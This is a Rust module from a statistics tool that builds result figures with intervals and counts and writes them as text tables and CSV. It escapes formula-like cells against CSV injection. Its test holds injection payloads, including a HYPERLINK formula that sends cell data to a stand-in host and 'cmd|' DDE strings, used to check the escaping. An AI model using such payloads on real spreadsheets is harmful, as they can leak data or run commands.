//! The common answer. A number never travels alone: its interval, how many it stands on,
//! how many are missing, how it was made and by whose book go with it.

use serde::{Serialize, Serializer};

/// Uncertainty of a value.
#[derive(Debug, Clone, PartialEq, Serialize)]
pub struct Interval {
    /// The lower end; nothing where it is not reached or not defined.
    pub low: Option<f64>,
    /// The upper end; nothing where it is not reached or not defined.
    pub high: Option<f64>,
    /// How often an interval made like this holds the truth, 0.95 for 95 %.
    pub level: f64,
    /// How it was made: `Wilson`, `Byar`, `exact`.
    pub method: &'static str,
}

impl Interval {
    /// An interval with two ends.
    pub fn new(low: f64, high: f64, level: f64, method: &'static str) -> Interval {
        Interval { low: Some(low), high: Some(high), level, method }
    }
}

/// One value with everything a reader needs to judge it.
#[derive(Debug, Clone, PartialEq, Serialize)]
pub struct Figure {
    /// What the value is of: (dimension, which one), as (`area`, `North`).
    #[serde(serialize_with = "as_map")]
    pub of: Vec<(String, String)>,
    /// What was measured, in words: `share started`.
    pub what: String,
    /// The value; nothing where there is none, and then a note says why.
    pub value: Option<f64>,
    /// Its unit in words: `days`, `per 100,000`, `share`.
    pub unit: String,
    /// Its uncertainty.
    pub interval: Option<Interval>,
    /// How many people, events or points it stands on.
    pub n: Option<u64>,
    /// How many could not be counted because something about them is not known.
    pub missing: u64,
    /// The name of the method, as in `kith insight --list`.
    pub method: &'static str,
    /// Whose formula it is, and which edition.
    pub source: &'static str,
    /// Further numbers that belong to it, by name: standard error, expected, wave.
    #[serde(serialize_with = "as_map")]
    pub more: Vec<(String, Option<f64>)>,
    /// What a reader has to know: too few, rounded, not reached.
    pub notes: Vec<String>,
}

impl Figure {
    /// A figure with a value and nothing else yet.
    pub fn new(method: &'static str, source: &'static str, what: impl Into<String>, value: f64) -> Figure {
        let value = value.is_finite().then_some(value);
        Figure {
            of: Vec::new(),
            what: what.into(),
            value,
            unit: String::new(),
            interval: None,
            n: None,
            missing: 0,
            method,
            source,
            more: Vec::new(),
            notes: Vec::new(),
        }
    }

    /// A figure that has no value, and why.
    pub fn none(
        method: &'static str,
        source: &'static str,
        what: impl Into<String>,
        why: impl Into<String>,
    ) -> Figure {
        let mut figure = Figure::new(method, source, what, f64::NAN);
        figure.notes.push(why.into());
        figure
    }

    /// What it is of.
    #[must_use]
    pub fn of(mut self, dimension: impl Into<String>, which: impl Into<String>) -> Figure {
        self.of.push((dimension.into(), which.into()));
        self
    }

    /// Its unit.
    #[must_use]
    pub fn unit(mut self, unit: impl Into<String>) -> Figure {
        self.unit = unit.into();
        self
    }

    /// Its interval.
    #[must_use]
    pub fn interval(mut self, low: f64, high: f64, level: f64, method: &'static str) -> Figure {
        let end = |x: f64| x.is_finite().then_some(x);
        self.interval = Some(Interval { low: end(low), high: end(high), level, method });
        self
    }

    /// How many it stands on.
    #[must_use]
    pub fn n(mut self, n: u64) -> Figure {
        self.n = Some(n);
        self
    }

    /// How many are missing.
    #[must_use]
    pub fn missing(mut self, missing: u64) -> Figure {
        self.missing = missing;
        self
    }

    /// A further number.
    #[must_use]
    pub fn more(mut self, name: impl Into<String>, value: f64) -> Figure {
        self.more.push((name.into(), value.is_finite().then_some(value)));
        self
    }

    /// Something a reader has to know.
    #[must_use]
    pub fn note(mut self, note: impl Into<String>) -> Figure {
        self.notes.push(note.into());
        self
    }
}

/// Names with values as an object that keeps their order.
fn as_map<T: Serialize, S: Serializer>(pairs: &[(String, T)], serializer: S) -> Result<S::Ok, S::Error> {
    serializer.collect_map(pairs.iter().map(|(name, value)| (name, value)))
}

/// All that a method answers.
#[derive(Debug, Clone, PartialEq, Default, Serialize)]
pub struct Answer {
    /// The figures, in the order of the input's groups.
    pub figures: Vec<Figure>,
    /// What holds for all of them: assumptions, settings, the seed.
    pub notes: Vec<String>,
}

impl Answer {
    /// The answer as one table: a heading and rows of text.
    pub fn rows(&self) -> (Vec<String>, Vec<Vec<String>>) {
        let dimensions = distinct(self.figures.iter().flat_map(|f| f.of.iter().map(|(d, _)| d)));
        let more = distinct(self.figures.iter().flat_map(|f| f.more.iter().map(|(name, _)| name)));
        let mut heading = dimensions.clone();
        heading.extend(
            ["what", "value", "unit", "low", "high", "level", "interval", "n", "missing"].map(String::from),
        );
        heading.extend(more.clone());
        heading.extend(["method", "source", "notes"].map(String::from));
        let rows = self.figures.iter().map(|f| row(f, &dimensions, &more)).collect();
        (heading, rows)
    }

    /// The answer for a reader at a terminal: columns that say nothing are left out, the
    /// level and interval stand once, method and source below.
    pub fn text(&self) -> String {
        let (heading, rows) = self.rows();
        let apart = ["level", "interval", "method", "source", "notes"];
        let said =
            |c: &usize| !apart.contains(&heading[*c].as_str()) && rows.iter().any(|r| !r[*c].is_empty());
        let columns: Vec<usize> = (0..heading.len()).filter(said).collect();
        let width = |c: usize| {
            rows.iter().map(|r| r[c].chars().count()).max().unwrap_or(0).max(heading[c].chars().count())
        };
        let numeric = |c: usize| rows.iter().all(|r| r[c].is_empty() || r[c].parse::<f64>().is_ok());
        let line = |cells: &[String]| {
            let padded = columns.iter().map(|&c| match numeric(c) {
                true => format!("{:>w$}", cells[c], w = width(c)),
                false => format!("{:<w$}", cells[c], w = width(c)),
            });
            padded.collect::<Vec<_>>().join("  ").trim_end().to_owned() + "\n"
        };
        let mut text = line(&heading);
        rows.iter().for_each(|r| text.push_str(&line(r)));
        text.push_str(&self.below());
        text
    }

    fn below(&self) -> String {
        let mut text = String::from("\n");
        let methods = self.figures.iter().map(|f| format!("{}: {}", f.method, f.source)).collect::<Vec<_>>();
        distinct(methods.iter()).iter().for_each(|m| text.push_str(&format!("Method {m}\n")));
        let intervals = self.figures.iter().filter_map(|f| f.interval.as_ref());
        let intervals: Vec<String> =
            intervals.map(|i| format!("{} % {}", plain(i.level * 100.0), i.method)).collect();
        distinct(intervals.iter()).iter().for_each(|i| text.push_str(&format!("Interval {i}\n")));
        for figure in &self.figures {
            let of: Vec<&str> = figure.of.iter().map(|(_, which)| which.as_str()).collect();
            for note in &figure.notes {
                let label = if of.is_empty() {
                    figure.what.clone()
                } else {
                    format!("{}, {}", of.join(" "), figure.what)
                };
                text.push_str(&format!("Note on {label}: {note}\n"));
            }
        }
        self.notes.iter().for_each(|note| text.push_str(&format!("Note: {note}\n")));
        text
    }

    /// The answer as CSV with full precision, so that it can be worked with. Words that a
    /// spreadsheet would run are words there too.
    pub fn csv(&self) -> String {
        let (heading, rows) = self.rows();
        let mut writer = csv::Writer::from_writer(Vec::new());
        let all = std::iter::once(&heading).chain(&rows);
        let cells = all.map(|row| row.iter().map(|cell| harmless(cell)).collect::<Vec<_>>());
        cells.for_each(|row| writer.write_record(row).expect("writing to memory cannot fail"));
        let bytes = writer.into_inner().expect("writing to memory cannot fail");
        String::from_utf8(bytes).expect("text in, text out")
    }
}

/// A cell that a spreadsheet shows and does not run: names of organisations, services and teams are what
/// people typed. Text that begins like a formula gets an apostrophe, as OWASP's "CSV Injection" has it;
/// numbers stay numbers.
fn harmless(cell: &str) -> String {
    let runs = cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\n']) && cell.parse::<f64>().is_err();
    if runs { format!("'{cell}") } else { cell.to_owned() }
}

fn row(f: &Figure, dimensions: &[String], more: &[String]) -> Vec<String> {
    let number = |x: Option<f64>| x.map(plain).unwrap_or_default();
    let find = |d: &String| f.of.iter().find(|(x, _)| x == d).map(|(_, w)| w.clone()).unwrap_or_default();
    let mut row: Vec<String> = dimensions.iter().map(find).collect();
    row.extend([f.what.clone(), number(f.value), f.unit.clone()]);
    let interval = f.interval.as_ref();
    row.push(number(interval.and_then(|i| i.low)));
    row.push(number(interval.and_then(|i| i.high)));
    row.push(number(interval.map(|i| i.level)));
    row.push(interval.map(|i| i.method.to_owned()).unwrap_or_default());
    row.push(f.n.map(|n| n.to_string()).unwrap_or_default());
    row.push(if f.missing > 0 || f.n.is_some() { f.missing.to_string() } else { String::new() });
    row.extend(more.iter().map(|name| number(f.more.iter().find(|(x, _)| x == name).and_then(|(_, v)| *v))));
    row.extend([f.method.to_owned(), f.source.to_owned(), f.notes.join(" ")]);
    row
}

fn distinct<'a>(names: impl Iterator<Item = &'a String>) -> Vec<String> {
    let mut seen: Vec<String> = Vec::new();
    names.for_each(|name| {
        if !seen.contains(name) {
            seen.push(name.clone());
        }
    });
    seen
}

/// A number to ten significant digits, without trailing noughts.
pub fn plain(x: f64) -> String {
    if x == 0.0 || !x.is_finite() {
        return if x == 0.0 { "0".into() } else { String::new() };
    }
    let digits = 9 - x.abs().log10().floor() as i32;
    let text = match digits {
        0..=17 => format!("{x:.*}", digits as usize),
        ..0 => format!("{x:.0}"),
        _ => return format!("{x:.9e}"),
    };
    match text.contains('.') {
        true => text.trim_end_matches('0').trim_end_matches('.').to_owned(),
        false => text,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn numbers_are_written_without_noise() {
        let cases = [(0.0, "0"), (1.5, "1.5"), (0.1 + 0.2, "0.3"), (1e12, "1000000000000"), (-2.0, "-2")];
        cases.iter().for_each(|(x, text)| assert_eq!(plain(*x), *text));
    }

    #[test]
    fn a_spreadsheet_runs_nothing_that_somebody_typed() {
        let typed = [
            "=HYPERLINK(\"https://other.example/\"&A1)",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "+1+cmd|' /C calc'!A0",
            "-1+1|cmd",
            "\t=1+1",
            "\r=1+1",
            "\n=1+1",
        ];
        for words in typed {
            let f = Figure::new("rate", "a book", words, -2.5).of(words, words).n(3);
            let csv = Answer { figures: vec![f], notes: vec![] }.csv();
            let mut read = csv::ReaderBuilder::new().has_headers(false).from_reader(csv.as_bytes());
            let cells: Vec<String> = read
                .records()
                .flat_map(|row| row.unwrap().iter().map(str::to_owned).collect::<Vec<_>>())
                .collect();
            assert_eq!(cells.iter().filter(|c| **c == format!("'{words}")).count(), 3, "{csv}");
            let starts = |c: &&String| c.starts_with(['=', '+', '-', '@', '\t', '\r', '\n']);
            let left: Vec<&String> = cells.iter().filter(starts).collect();
            assert_eq!(left, ["-2.5"], "a number stays one, and nothing else begins like that");
        }
    }

    #[test]
    fn a_figure_without_a_value_says_why() {
        let f = Figure::none("rate", "a book", "rate", "Nobody lives here.").of("area", "North").n(0);
        let text = Answer { figures: vec![f], notes: vec![] }.text();
        assert!(text.contains("Note on North, rate: Nobody lives here."), "{text}");
    }
}
